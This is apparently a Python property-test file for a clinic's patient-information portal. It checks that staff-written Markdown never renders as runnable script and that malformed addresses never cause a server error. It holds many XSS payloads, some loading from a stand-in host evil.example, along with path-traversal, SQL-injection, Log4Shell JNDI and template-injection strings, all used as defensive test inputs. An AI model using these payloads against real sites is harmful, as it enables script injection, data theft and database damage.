"""Property tests: hostile content never becomes script, and hostile requests never become a 500.

Content is written by clinic staff, but a pasted snippet or a compromised account must still not
put script on a patient's screen. Addresses come from anyone on the internet.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import quote, urlencode

import html5lib
import pytest
from django.conf import settings
from hypothesis import HealthCheck, example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from portal.content import Term, read_content
from portal.rendering import Renderer
from portal.sanitise import ALLOWED_TAGS

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "<img src=x onerror=alert(1)>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:/">',
    '<form action="javascript:alert(1)"><button>Go</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="https://example.org/" onclick="alert(1)">rhizotomy</a>',
    "<abbr title='x' onmouseover=alert(1)>SDR</abbr>",
    '<h3 id="x" onfocus=alert(1) autofocus>spasticity</h3>',
    '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<select><style><img src=x onerror=alert(1)></style></select>",
    "<plaintext><script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "[click](  javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    '[click](https://example.org "a\\" onmouseover=\\"alert(1)")',
    "![pic](javascript:alert(1))",
    '![pic](x" onerror="alert(1))',
    "[ref]\n\n[ref]: javascript:alert(1)\n",
    "<javascript:alert(1)>",
    '<https://example.org/"onmouseover="alert(1)>',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>\n",
    "```\n<script>alert(1)</script>\n```\n",
    "spasticity<img src=x onerror=alert(1)>",
    "<a href='#' title='rhizotomy'>rhizotomy</a> script onerror javascript",
    "<sc\x00ript>alert(1)</sc\x00ript>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]
MARKDOWN_SYNTAX = [
    "\n",
    "\n\n",
    "# ",
    "### ",
    "- ",
    "1. ",
    "> ",
    "**",
    "_",
    "`",
    "    ",
    "| a | b |\n|---|---|\n| ",
    "[",
    "](",
    ")",
    "<",
    ">",
    '"',
    "'",
    "&",
    "=",
    " rhizotomy ",
    " spasticity ",
    " SDR ",
    " script ",
    " onerror ",
    " javascript ",
]
# A term whose words look like attack vocabulary, so the glossary marker wraps them too.
HOSTILE_TERM = Term(
    slug="script",
    term="script",
    definition='<script>alert(1)</script> " onmouseover="alert(1)',
    other_forms=("javascript", "onerror"),
)
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster"}
# What the sanitiser keeps, plus the glossary marker's own toggletip markup.
SAFE_ELEMENTS = ALLOWED_TAGS | {"button", "span"}

hostile_markdown = st.lists(
    st.one_of(
        st.text(max_size=40),
        st.sampled_from(XSS_PAYLOADS),
        st.sampled_from(MARKDOWN_SYNTAX),
    ),
    max_size=12,
).map("".join)


@pytest.fixture(scope="module")
def renderer() -> Renderer:
    terms = read_content(settings.BASE_DIR / "content").terms
    return Renderer([*terms, HOSTILE_TERM])


def load_time_html(renderer: Renderer, text: str) -> str:
    """What load_content stores for one article section."""
    return renderer.marker.mark(renderer.markdown(text), id_prefix="def-section").html


def scheme_of(url: str) -> str:
    # Browsers drop ASCII whitespace and control characters anywhere in a scheme.
    return re.sub(r"[\x00-\x20\x7f]", "", url).lower()


def script_problems(tag: str, attributes: list[tuple[str, str | None]]) -> list[str]:
    problems = []
    if tag not in SAFE_ELEMENTS:
        problems.append(f"element <{tag}>")
    for name, value in attributes:
        name = name.lower()
        if name.startswith("on"):
            problems.append(f"event handler {name} on <{tag}>")
        if name in {"style", "srcdoc"}:
            problems.append(f"{name} on <{tag}>")
        if name in URL_ATTRIBUTES and scheme_of(value or "").startswith(BAD_SCHEMES):
            problems.append(f"{name}={value!r} on <{tag}>")
    return problems


def problems_seen_by_html5lib(html: str) -> list[str]:
    """Parsed as a browser parses a fragment in a page's body."""
    fragment = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    problems = []
    for element in fragment.iter():
        if element is not fragment and isinstance(element.tag, str):
            problems += script_problems(element.tag.lower(), list(element.attrib.items()))
    return problems


class _TagCollector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.problems += script_problems(tag, attrs)

    handle_startendtag = handle_starttag


def problems_seen_by_html_parser(html: str) -> list[str]:
    collector = _TagCollector()
    collector.feed(html)
    collector.close()
    return collector.problems


def test_checker_notices_script(renderer):
    """The property below would pass vacuously if the checker could not see these."""
    unsafe = (
        '<script>x</script><img src=x onerror=y><a href=" jav&#x09;ascript:x">a</a>'
        '<p style="color:red">b</p><a href="data:text/html,x">c</a>'
    )
    for check in (problems_seen_by_html5lib, problems_seen_by_html_parser):
        found = " ".join(check(unsafe))
        for expected in ("<script>", "onerror", "ascript:x", "style", "data:"):
            assert expected in found, (check.__name__, expected)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_known_payloads_are_neutralised(renderer, payload):
    html = load_time_html(renderer, payload)
    assert problems_seen_by_html5lib(html) == []
    assert problems_seen_by_html_parser(html) == []


def test_hostile_glossary_definition_is_shown_as_text(renderer):
    html = load_time_html(renderer, "A script can help.")
    assert 'popovertarget="def-section_script"' in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert problems_seen_by_html5lib(html) == []


@hypothesis_settings(max_examples=400, deadline=None)
@given(text=hostile_markdown)
def test_rendered_content_can_never_run_script(renderer, text):
    html = load_time_html(renderer, text)
    assert problems_seen_by_html5lib(html) == []
    assert problems_seen_by_html_parser(html) == []


# Requests: whatever the address, the answer is a page, a redirect or "not found", never a 500.

ALLOWED_STATUSES = {200, 301, 302, 304, 404, 405}
SLUGS = ["surgical-rhizotomy", "rhizotomy-injection", "dorsal-rhizotomy-back-pain"]
ODD_STRINGS = [
    "",
    " ",
    "\x00",
    "%00",
    "%",
    "%zz",
    "%ff%fe",
    "%c0%af",
    "..",
    "../../etc/passwd",
    "\u202e",
    "\U0001d54a\U0001d53b\u211d",  # look-alikes of "SDR"
    "SR",
    "sr",
    "Surgical-Rhizotomy",
    " surgical-rhizotomy ",
    "x" * 3000,
    "<script>alert(1)</script>",
    "'; DROP TABLE portal_procedure; --",
    "${jndi:ldap://evil.example/a}",
    "{{ settings.SECRET_KEY }}",
]
PREFIXES = [
    "/",
    "/procedures/",
    "/compare/",
    "/glossary/",
    "/go/",
    "/go/SR/",
    "/static/",
    "/static/portal/",
    "/healthz/",
    "/admin/",
    "/staff/links/",
    "/staff/qr/",
]

values = st.one_of(st.text(max_size=60), st.sampled_from(SLUGS + ODD_STRINGS))
query_strings = st.one_of(
    st.lists(
        st.tuples(st.sampled_from(["p", "P", "p[]", "page", "hx-request", ""]) | values, values),
        max_size=8,
    ).map(urlencode),
    # Not produced by any form: raw, possibly broken, percent-encoding.
    st.lists(
        st.sampled_from(["p=", "&", "=", "%", "%2", "%zz", "%ff", "+", ";", "p"]) | values
    ).map("".join),
)
paths = st.builds(
    lambda prefix, segments, slash: prefix + "/".join(segments) + slash,
    st.sampled_from(PREFIXES),
    st.lists(
        st.one_of(values.map(lambda v: quote(v, safe="")), st.sampled_from(ODD_STRINGS + SLUGS)),
        max_size=3,
    ),
    st.sampled_from(["", "/"]),
)
extra_headers = st.fixed_dictionaries(
    {},
    optional={
        "HX-Request": st.sampled_from(["true", "false", ""]),
        "HX-History-Restore-Request": st.just("true"),
        "If-None-Match": st.sampled_from(['"x"', "*", "W/", '"', ""]) | st.text(max_size=20),
        "If-Modified-Since": st.sampled_from(["yesterday", "Thu, 01 Jan 1970 00:00:00 GMT"]),
    },
)
no_db_writes = hypothesis_settings(
    max_examples=300,
    deadline=None,
    # Every example only reads, so one loaded database serves all of them.
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def headers_for(headers: dict[str, str]) -> dict[str, str]:
    # A header value cannot hold a line break; the server would never receive one.
    return {k: v for k, v in headers.items() if not re.search(r"[\r\n\x00]", v)}


@no_db_writes
@example(query="p=%00&p=surgical-rhizotomy", headers={"HX-Request": "true"})
@given(query=query_strings, headers=extra_headers)
def test_comparison_answers_any_query_string(client, loaded, query, headers):
    response = client.get(f"/compare/?{query}", headers=headers_for(headers))
    assert response.status_code in {200, 304}, (query, response.status_code)


@no_db_writes
# PostgreSQL refuses a NUL byte in a query parameter; these once reached the database.
@example(path="/go/%00/", query="", headers={}, method="get")
@example(path="/go/SR/%00/", query="", headers={}, method="get")
@example(path="/procedures/%00/", query="p=%00", headers={}, method="get")
@example(path="/staff/qr/%00.svg", query="", headers={}, method="get")
@given(
    path=paths,
    query=query_strings,
    headers=extra_headers,
    method=st.sampled_from(["get", "head", "post"]),
)
def test_no_address_gives_a_server_error(client, loaded, path, query, headers, method):
    response = getattr(client, method)(f"{path}?{query}", headers=headers_for(headers))
    assert response.status_code in ALLOWED_STATUSES, (method, path, query, response.status_code)
